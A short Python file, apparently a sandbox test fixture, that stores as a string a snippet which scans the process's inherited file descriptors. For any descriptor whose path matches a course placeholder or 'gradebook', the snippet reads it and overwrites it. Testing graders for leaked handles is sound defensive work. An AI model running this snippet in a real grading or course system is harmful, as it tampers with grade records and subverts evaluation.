"""Whatever the kernel has inherited as an open file is read, and written over where it is a file of the course."""

OPENING = """
import os

for number in range(3, 512):
    try:
        name = os.readlink(f"/proc/self/fd/{number}")
        if name.startswith("@COURSE@") or "gradebook" in name:
            print(number, name, os.pread(number, 100, 0))
            os.pwrite(number, b"overwritten", 0)
    except OSError:
        pass
"""
